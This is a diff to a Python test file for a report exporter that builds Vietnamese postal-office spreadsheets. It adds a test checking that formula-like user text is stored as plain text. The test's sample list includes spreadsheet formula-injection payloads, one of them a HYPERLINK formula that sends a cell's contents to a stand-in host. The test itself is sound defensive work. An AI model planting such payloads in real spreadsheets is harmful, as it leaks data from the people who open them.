@@ -4,6 +4,8 @@ offices' own reports form a numbered part with their figures and totals."""
 from __future__ import annotations
 
 import io
+import zipfile
+from dataclasses import replace
 from datetime import date
 
 from openpyxl import load_workbook
@@ -73,3 +75,25 @@ def test_the_provision_section_numbers_in_order_with_dashes_and_totals():
     rows = list(sheet.iter_rows(min_row=4, values_only=True))
     assert rows[-1] == ("Tổng cộng", 1_235_567, 235_567, 50, 12_445_678_900, 2)
     assert rows[2] == ("Bưu điện Cái Răng", None, None, None, None, None)
+
+
+HOSTILE = ('=HYPERLINK("https://example.invalid/?q="&A1,"Bấm vào đây")', "+84 292 3821 234",
+           "-1+2", "@SUM(A1:A9)", "\tTab", "\rCR", "=1+1")
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_never_as_a_formula():
+    table = DataTable("Cơ sở", "=Tiêu đề do người dùng đặt",
+                      (Column("STT", 15, Format.INTEGER), Column("=Cơ sở", 80)),
+                      tuple((n, text) for n, text in enumerate(HOSTILE, 1)))
+    data = render_report_xlsx(replace(report_with_overdue(0, 5), parts=(
+        Part("I. CƠ SỞ", ("Danh sách.",), (table,)),), subject="=Kết quả"))
+    sheet = load_workbook(io.BytesIO(data))["Cơ sở"]
+    cells = [sheet.cell(row, 2) for row in range(4, 4 + len(HOSTILE))]
+    assert [c.value for c in cells] == list(HOSTILE)
+    for c in (*cells, sheet["A1"], sheet["B3"]):
+        assert c.data_type == "s", (c.coordinate, c.value)
+        assert c.quotePrefix, c.coordinate  # a spreadsheet edits it as text, too
+    assert sheet["A2"].data_type == "s" and not sheet["A2"].quotePrefix
+    assert sheet["A4"].value == 1 and sheet["A4"].data_type == "n"
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
